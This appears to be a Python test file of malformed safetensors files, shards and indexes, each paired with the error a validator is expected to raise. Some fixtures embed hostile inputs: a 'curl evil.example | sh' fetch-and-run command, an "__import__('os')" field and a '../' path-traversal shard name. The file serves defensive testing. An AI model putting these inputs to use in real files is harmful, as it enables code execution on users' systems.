"""Headers of safetensors files, shards and their index."""

import json
import struct

import numpy
from safetensors.numpy import save_file

from tests.ingestion.attacks import attack

HEADER, INDEX = "safetensors-header", "safetensors-index"


def tensor(dtype="U8", shape=(4,), offsets=(0, 4), **more):
    return {"dtype": dtype, "shape": list(shape), "data_offsets": list(offsets), **more}


def write(folder, header, data=bytes(4), length=None):
    """Write the weights from a header as an object or as raw bytes."""
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    start = struct.pack("<Q", len(text) if length is None else length)
    (folder / "model.safetensors").write_bytes(start + text + data)


def shard(folder, *, index=True):
    """Turn the weights into two shards; return what the index says."""
    (folder / "model.safetensors").unlink()
    weight_map = {}
    for number, names in enumerate((("a", "b"), ("c",)), 1):
        file = f"model-{number:05}-of-00002.safetensors"
        save_file({name: numpy.ones(4, "float32") for name in names}, folder / file)
        weight_map |= dict.fromkeys(names, file)
    content = {"metadata": {"total_size": 48}, "weight_map": weight_map}
    if index:
        write_index(folder, content)
    return content


def write_index(folder, content):
    (folder / "model.safetensors.index.json").write_text(json.dumps(content))


@attack(rule=HEADER, says="claims a header of 9,223,372,036,854,775,808 bytes")
def a_header_that_claims_two_to_the_63(folder):
    write(folder, {"a": tensor()}, length=2**63)


@attack(rule=HEADER, says="claims a header of")
def a_header_one_byte_longer_than_the_file(folder):
    write(folder, b"{}", b"", length=3)


@attack(rule=HEADER, says="more than the 16,777,216")
def a_header_of_twenty_megabytes(folder):
    write(folder, b"{" + b" " * (20 << 20) + b"}")


@attack(rule=HEADER, says="too short")
def weights_of_three_bytes(folder):
    (folder / "model.safetensors").write_bytes(b"abc")


@attack(rule=HEADER, says="does not begin with {")
def a_header_that_is_a_list(folder):
    write(folder, b"[1]")


@attack(rule=HEADER, says="not UTF-8")
def a_header_in_latin_1(folder):
    write(folder, json.dumps({"\u00e9": tensor()}, ensure_ascii=False).encode("latin-1"))


@attack(rule=HEADER, says="not ASCII without blanks")
def a_name_with_half_a_character(folder):
    write(folder, rb'{"\ud800":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}}')


@attack(rule=HEADER, says="the name 'a' twice")
def a_tensor_named_twice(folder):
    text = json.dumps({"a": tensor(), "b": tensor()})
    write(folder, text.replace('"b"', '"a"').encode())


@attack(rule=HEADER, says="the name 'shape' twice")
def a_shape_given_twice(folder):
    write(folder, b'{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4],"shape":[1]}}')


@attack(rule=HEADER, says="nested deeper than 64 levels")
def a_header_of_nested_lists(folder):
    write(folder, b'{"a":' + b"[" * 100_000 + b"null" + b"]" * 100_000 + b"}")


@attack(rule=HEADER, says="empty, too long")
def a_name_of_two_megabytes(folder):
    write(folder, {"a" * (2 << 20): tensor()})


@attack(rule=HEADER, says="invalid offset for tensor `b`")
def overlapping_tensors(folder):
    write(folder, {"a": tensor(), "b": tensor(offsets=(2, 6))}, bytes(6))


@attack(rule=HEADER, says="invalid offset for tensor `b`")
def a_tensor_within_a_tensor(folder):
    write(folder, {"a": tensor(shape=[6], offsets=(0, 6)), "b": tensor(shape=[2], offsets=(1, 3))}, bytes(6))


@attack(rule=HEADER, says="invalid offset for tensor `b`")
def bytes_that_no_tensor_has(folder):
    write(folder, {"a": tensor(), "b": tensor(offsets=(12, 16))}, bytes(16))


@attack(rule=HEADER, says="file not fully covered")
def bytes_behind_the_last_tensor(folder):
    write(folder, {"a": tensor()}, bytes(4) + b"curl evil.example | sh")


@attack(rule=HEADER, says="file not fully covered")
def a_tensor_that_ends_beyond_the_file(folder):
    write(folder, {"a": tensor(shape=[8], offsets=(0, 8))})


@attack(rule=HEADER, says="invalid offset for tensor `a`")
def a_tensor_that_ends_before_it_begins(folder):
    write(folder, {"a": tensor(offsets=(4, 0))})


@attack(rule=HEADER, says="unknown variant `Q8`")
def an_unknown_dtype(folder):
    write(folder, {"a": tensor("Q8")})


@attack(rule=HEADER, says="invalid shape, data type, or offset")
def a_shape_that_does_not_fit_the_bytes(folder):
    write(folder, {"a": tensor(shape=[2, 3])})


@attack(rule=HEADER, says="byte boundary")
def half_a_byte(folder):
    write(folder, {"a": tensor("F4", [9])})


@attack(rule=HEADER, says="overflow")
def a_shape_that_overflows_to_zero(folder):
    write(folder, {"a": tensor(shape=[2**32, 2**32], offsets=(0, 0)), "b": tensor()})


@attack(rule=HEADER, says="overflow")
def an_overflow_behind_a_zero(folder):
    write(folder, {"a": tensor(shape=[0, 2**62, 2**62], offsets=(0, 0)), "b": tensor()})


@attack(rule=HEADER, says="invalid value: integer `-1`")
def a_negative_shape(folder):
    write(folder, {"a": tensor(shape=[-1, -4])})


@attack(rule=HEADER, says="without exactly a dtype")
def a_field_that_safetensors_does_not_know(folder):
    write(folder, {"a": tensor(code="__import__('os')")})


@attack(rule=HEADER, says="without exactly a dtype, a shape and two data_offsets")
def a_tensor_without_a_shape(folder):
    write(folder, b'{"a":{"dtype":"U8","data_offsets":[0,4]}}')


@attack(rule=HEADER, says="not one text for each name")
def metadata_that_is_no_text(folder):
    write(folder, {"__metadata__": {"format": {"auto_map": "evil"}}, "a": tensor()})


@attack(rule=HEADER, says="holds no tensors")
def no_tensors(folder):
    write(folder, {"__metadata__": {"format": "pt"}}, b"")


@attack(rule=INDEX, says=r"names 'model-00002-of-00002\.safetensors', which is not there")
def a_missing_shard(folder):
    shard(folder)
    (folder / "model-00002-of-00002.safetensors").unlink()


@attack(rule=INDEX, says="2 shards, of which 1 are missing")
def a_missing_shard_that_the_index_does_not_name_either(folder):
    content = shard(folder)
    (folder / "model-00002-of-00002.safetensors").unlink()
    write_index(folder, {"weight_map": dict.fromkeys("ab", content["weight_map"]["a"])})


@attack(rule=INDEX, says="without an index")
def shards_without_an_index(folder):
    shard(folder, index=False)


@attack(rule=INDEX, says="is not named by the index")
def weights_beside_the_shards(folder):
    shard(folder)
    save_file({"d": numpy.ones(4, "float32")}, folder / "model.safetensors")


@attack(rule=INDEX, says="no plain name of a safetensors file")
def an_index_that_names_a_file_elsewhere(folder):
    content = shard(folder)
    content["weight_map"]["c"] = "../other/model.safetensors"
    write_index(folder, content)


@attack(rule=INDEX, says="no plain name of a safetensors file")
def an_index_that_names_a_pickle(folder):
    content = shard(folder)
    content["weight_map"]["c"] = "pytorch_model.bin"
    write_index(folder, content)


@attack(rule=INDEX, says=r"another shard for tensors that are in model-00001-of-00002\.safetensors: 'a'")
def an_index_with_swapped_shards(folder):
    content = shard(folder)
    content["weight_map"] |= {"a": content["weight_map"]["c"]}
    write_index(folder, content)


@attack(rule=INDEX, says=r"does not name tensors that are in model-00001-of-00002\.safetensors: 'b'")
def a_tensor_that_the_index_does_not_name(folder):
    content = shard(folder)
    del content["weight_map"]["b"]
    write_index(folder, content)


@attack(rule=INDEX, says="tensors that are in no shard: 'd'")
def a_tensor_that_is_in_no_shard(folder):
    content = shard(folder)
    content["weight_map"]["d"] = content["weight_map"]["a"]
    write_index(folder, content)


@attack(rule=INDEX, says="tensors in two shards")
def a_tensor_in_two_shards(folder):
    shard(folder)
    save_file({name: numpy.zeros(4, "float32") for name in "bc"}, folder / "model-00002-of-00002.safetensors")


@attack(rule=INDEX, says="tensors in two shards")
def a_second_file_with_other_values_for_a_tensor(folder):
    save_file({"a": numpy.zeros(4, "float32")}, folder / "model.safetensors")
    save_file({"a": numpy.ones(4, "float32")}, folder / "weights.safetensors")


@attack(rule=INDEX, says="does not map each tensor to one file name")
def an_index_with_lists_of_shards(folder):
    content = shard(folder)
    content["weight_map"]["c"] = [content["weight_map"]["a"], content["weight_map"]["c"]]
    write_index(folder, content)
